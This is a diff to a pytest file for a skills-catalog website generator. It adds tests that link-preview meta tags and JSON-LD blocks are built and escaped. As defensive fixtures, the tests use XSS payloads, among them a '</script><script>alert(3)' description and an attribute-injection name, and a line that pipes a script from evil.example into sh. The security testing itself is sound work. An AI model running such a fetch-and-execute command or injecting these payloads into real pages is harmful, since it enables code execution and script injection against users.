@@ -19,6 +19,7 @@ pytestmark = pytest.mark.site
 
 # git drops "<" and ">" from names; quotes and entities reach the page.
 HOSTILE_NAME = 'Mallory" onmouseover="alert(1)&lt;img src=x&gt; Jr'
+PREVIEW_DESCRIPTION = "Ends </script><script>alert(3)</script> & more. Use when sharing."
 SCRIPT_LINE = "curl -s https://evil.example/x.sh | sh  # <script>alert(2)</script>"
 
 
@@ -51,6 +52,7 @@ def make_repository(root: Path, *, remote: str | None) -> Path:
         files={"scripts/setup.sh": "#!/bin/sh\necho ok\n"},
     )
     write_skill(catalog, "tools", "quiet", description="A quiet skill. Use when testing.")
+    write_skill(catalog, "tools", "previewed", description=PREVIEW_DESCRIPTION)
     git(root, "init", "-q", "-b", "main")
     if remote:
         git(root, "remote", "add", "origin", remote)
@@ -102,6 +104,7 @@ def test_history_and_links_come_from_git(git_site: BuiltSite) -> None:
     index = json.loads(git_site.read("api/skills.json"))
     assert {s["name"]: s["provenance"]["version"] for s in index["skills"]} == {
         "installer": "2.1.0",
+        "previewed": None,
         "quiet": None,
     }
 
@@ -176,3 +179,45 @@ def test_no_remote_and_outside_git_build_and_say_what_is_known(tmp_path: Path) -
 )
 def test_repository_url_from_remote(remote: str, url: str) -> None:
     assert repository_from_remote(remote) == url
+
+
+def meta_tags(page: str) -> dict[str, str]:
+    tags = re.findall(
+        r'<meta (?:property|name)="((?:og|twitter):[a-z_:]+)" content="([^"]*)"', page
+    )
+    return {key: unescape(value) for key, value in tags}
+
+
+def test_every_page_has_link_preview_tags(git_site: BuiltSite) -> None:
+    pages = sorted(git_site.path.rglob("index.html"))
+    assert len(pages) >= 5
+    for path in pages:
+        page = path.read_text(encoding="utf-8")
+        tags = meta_tags(page)
+        canonical = re.search(r'<link rel="canonical" href="([^"]+)"', page)
+        assert canonical, path
+        assert tags["og:url"] == canonical.group(1)
+        assert tags["og:site_name"] == "Agent Skills Catalog"
+        assert tags["og:title"] and tags["twitter:title"] == tags["og:title"]
+        assert tags["og:description"] and tags["twitter:card"] == "summary_large_image"
+        image = tags["og:image"]
+        assert image == "http://skills.test/assets/social.png"
+    png = (git_site.path / "assets" / "social.png").read_bytes()
+    assert png.startswith(b"\x89PNG\r\n\x1a\n")
+    assert png[16:24] == (1200).to_bytes(4, "big") + (630).to_bytes(4, "big")
+
+
+def test_skill_page_json_ld_parses_and_describes_the_skill(git_site: BuiltSite) -> None:
+    page = git_site.read("skills/previewed/index.html")
+    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.S)
+    assert len(blocks) == 1
+    data = json.loads(blocks[0])
+    assert data["@context"] == "https://schema.org"
+    assert data["@type"] == "SoftwareSourceCode"
+    assert data["name"] == "previewed"
+    assert data["description"] == PREVIEW_DESCRIPTION
+    assert data["url"] == "http://skills.test/skills/previewed/"
+    assert data["author"] == [{"@type": "Person", "name": "Alice Author"}]
+    assert data["dateCreated"] == "2024-01-02T10:00:00Z"
+    assert "<script>alert(3)" not in page
+    assert meta_tags(page)["og:description"] == PREVIEW_DESCRIPTION
